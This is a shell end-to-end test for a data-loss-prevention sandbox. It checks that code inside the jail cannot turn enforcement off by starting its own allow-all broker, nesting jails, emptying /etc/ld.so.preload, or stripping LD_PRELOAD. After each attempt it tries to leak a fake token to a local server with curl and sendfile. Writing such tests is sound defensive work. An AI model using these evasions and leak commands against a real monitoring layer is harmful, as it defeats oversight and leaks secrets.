#!/bin/sh
# 304-no-off-switch: nothing inside the jail turns enforcement off (issue 10
# item 5). Each attempt is made from inside a session (relay on, canary
# TOKEN), then followed by a leak of the canary: by python's sendfile (only
# the relay can see it) and by curl -d (the ordinary client). The recording
# server never receives the canary and the relay's event names it:
#   - DLPJAIL_SOCK pointing at a broker of the jail's own that allows all
#     (a real `dlpjail broker --monitor --allow 0.0.0.0/0` started inside);
#   - a nested dlpjail with --monitor --no-seccomp --no-relay and an
#     allow-all policy (it may only tighten), and a plain nested dlpjail;
#   - the jail's own ad hoc broker (DLPJAIL_SOCK unset, DLPJAIL_POLICY,
#     XDG_RUNTIME_DIR and DLPJAIL_BIN chosen by the jail);
#   - emptying the private /etc/ld.so.preload, then env -i children;
#   - env -i and LD_PRELOAD removed in a child;
#   - a program exporting the shim's marker symbol dlpjail_broker_marker.
# RELAY_FLAG=--no-relay runs the sessions without the relay: it must fail.
. "$(dirname "$0")/lib.sh"

RELAY=${RELAY_FLAG---relay}
# dlpjail runs inside the jail here, with the (uninstrumented) shim preloaded
# first; an ASan build must accept that (the shim stays inert in dlpjail)
[ -n "${DLP_SANITIZERS:-}" ] &&
	export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0"
TOKEN=ghp_Zq3CanaryNoOffSwitch7Xy9Kp2Lm4Nn6Rr8
C="$top_srcdir/t/e2e/relay_client.py"
need_relay
start_server recsrv.py 127.0.0.1 rec
PORT=$rec_PORT LOG=$rec_LOG
printf 'POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 60\r\n\r\nt=%s\n' "$TOKEN" > "$T/secret.txt"
cc -rdynamic -o "$T/marker_prog" "$top_srcdir/t/e2e/marker_prog.c" ||
	{ echo "cannot build marker_prog.c"; exit 99; }
printf 'allow 0.0.0.0/0\nallow ::/0\n' > "$T/evil.policy"
export DLPJAIL SHIM="$DLPJAIL_SHIM" C T PORT TOKEN
SEND="python3 \"\$C\" sendfile \$PORT \"\$T/secret.txt\"; curl -s -m 5 -d t=\$TOKEN http://127.0.0.1:\$PORT/c"

# attempt NAME SETUP: in the jail, sh -c "SETUP", then the two leaks (SETUP
# may define a prefix command W for them: "W='env -i'")
attempt() {
	: > "$LOG"
	: > "$T/events.jsonl"
	out=$(timeout 60 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" $RELAY \
	      --allow 127.0.0.1 --canary "$TOKEN" -q -- sh -c "W=; $2; eval \"\$W \$0\"" "$SEND" 2>&1)
	sleep 0.2
	check "$1: the canary never reaches the server" sh -c "! grep -q '$TOKEN' '$LOG'"
	check "$1: the relay's event names the canary" event_has '"layers":"relay' \
		'"detector":"canary"' '"action":"blocked"' "\"port\":$PORT"
	printf '%s\n' "$out" | sed -n 's/^/#   /p' | head -6
}

attempt "DLPJAIL_SOCK -> the jail's own allow-all broker" \
	'mkdir -m 700 "$T/evil"; "$DLPJAIL" broker --socket "$T/evil/broker.sock" \
	 --no-default-policy --allow 0.0.0.0/0 --monitor --idle 3 2>/dev/null;
	 i=0; while [ ! -S "$T/evil/broker.sock" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done;
	 export DLPJAIL_SOCK="$T/evil/broker.sock"'
# the supervisor decides outside too: a destination the session does not allow
: > "$T/events.jsonl"
out=$(timeout 30 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" $RELAY --allow 127.0.0.1 \
      -q -- sh -c 'mkdir -m 700 "$T/evil2"; "$DLPJAIL" broker --socket "$T/evil2/broker.sock" \
	 --no-default-policy --allow 0.0.0.0/0 --monitor --idle 3 2>/dev/null;
	 i=0; while [ ! -S "$T/evil2/broker.sock" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done;
	 export DLPJAIL_SOCK="$T/evil2/broker.sock"; python3 -c "
import socket, errno
s = socket.socket()
try: s.connect((\"127.0.0.2\", 9)); print(\"connected\")
except OSError as e: print(errno.errorcode[e.errno])"' 2>/dev/null)
check "DLPJAIL_SOCK -> own broker: a denied destination stays denied ($out)" [ "$out" = EACCES ]
check "... refused by the supervisor outside" event_has '"op":"connect"' '"verdict":"deny"' \
	'"rule":"[^"]*seccomp'

attempt "nested dlpjail --monitor --no-seccomp --no-relay, allow-all policy" \
	'W="\"\$DLPJAIL\" --policy \"\$T/evil.policy\" --monitor --no-seccomp --no-relay -q --"'
attempt "nested dlpjail (defaults)" \
	'W="\"\$DLPJAIL\" --no-default-policy --allow 0.0.0.0/0 -q --"'
# TLS: only the session's broker can vouch that a hooked library reports the
# plaintext; a process talking to a broker of its own is refused by the relay
if command -v openssl >/dev/null; then
	. "$top_srcdir/t/tls/lib-tls.sh"
	make_ca
	start_https 127.0.0.1 web
	TLS='curl -s -S -m 5 --cacert "$CA" -d t=$TOKEN "https://127.0.0.1:$web_PORT/tls"'
	export CA web_PORT
	: > "$T/events.jsonl"
	out=$(timeout 30 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" $RELAY \
	      --allow 127.0.0.1 -q -- sh -c 'mkdir -m 700 "$T/evil3"; "$DLPJAIL" broker \
	      --socket "$T/evil3/broker.sock" --no-default-policy --allow 0.0.0.0/0 --monitor --idle 3 2>/dev/null
	      i=0; while [ ! -S "$T/evil3/broker.sock" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
	      DLPJAIL_SOCK="$T/evil3/broker.sock" '"$TLS" 2>&1)
	check "DLPJAIL_SOCK -> own broker: curl's TLS never reaches the server ($out)" \
		sh -c "! grep -q '/tls' '$web_LOG'"
	# unclaimed at the real broker: the relay either refuses it or takes it
	# on the CA path, where this upstream (test CA, not the host's roots)
	# fails verification; either way an event names curl
	check "... the relay refuses that TLS itself, naming curl" event_has \
		'"rule":"relay-tls[a-z-]*"' '"layers":"relay' '[^ ]*curl'
	out=$(timeout 30 "$DLPJAIL" --no-default-policy $RELAY --allow 127.0.0.1 -q -- \
	      sh -c "$TLS" 2>&1)
	check "the same TLS request with the session's broker arrives ($out)" grep -q '/tls' "$web_LOG"
fi

# a nested dlpjail runs (as a layer on top) and can only tighten
: > "$LOG"
timeout 30 "$DLPJAIL" --no-default-policy $RELAY --allow 127.0.0.1 -q -- "$DLPJAIL" \
	--no-default-policy --allow 127.0.0.1 -q -- curl -s -m 3 "http://127.0.0.1:$PORT/nested-clean" \
	>/dev/null 2>&1
check "nested dlpjail: clean bytes arrive" grep -q 'GET /nested-clean' "$LOG"
: > "$LOG"
out=$(timeout 30 "$DLPJAIL" --no-default-policy $RELAY --allow 127.0.0.1 -q -- "$DLPJAIL" \
	--no-default-policy -q -- curl -s -S -m 3 "http://127.0.0.1:$PORT/nested-denied" 2>&1)
check "nested dlpjail: its own deny holds on top of the outer allow ($out)" [ ! -s "$LOG" ]
attempt "the jail's own ad hoc broker (DLPJAIL_SOCK unset, its policy)" \
	'mkdir -m 700 "$T/evilrun"; unset DLPJAIL_SOCK;
	 export XDG_RUNTIME_DIR="$T/evilrun" DLPJAIL_POLICY="$T/evil.policy" DLPJAIL_BIN="$DLPJAIL" DLPJAIL_IDLE=2'
attempt "emptied /etc/ld.so.preload, then env -i" \
	': > /etc/ld.so.preload 2>/dev/null && echo "emptied /etc/ld.so.preload"; W="env -i PATH=$PATH"'
attempt "env -i child" 'W="env -i PATH=$PATH"'
attempt "LD_PRELOAD removed in a child" 'W="env -u LD_PRELOAD"'

: > "$LOG"
: > "$T/events.jsonl"
out=$(timeout 30 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" $RELAY --allow 127.0.0.1 \
      --canary "$TOKEN" -q -- "$T/marker_prog" "$PORT" "$T/secret.txt" 2>&1)
sleep 0.2
check "marker symbol: the canary never reaches the server ($out)" sh -c "! grep -q '$TOKEN' '$LOG'"
check "marker symbol: an event names the canary" event_has '"detector":"canary"' \
	'"exe":"[^"]*marker_prog'
check "no event shows the canary" sh -c "! grep -q '$TOKEN' '$T/events.jsonl'"
finish
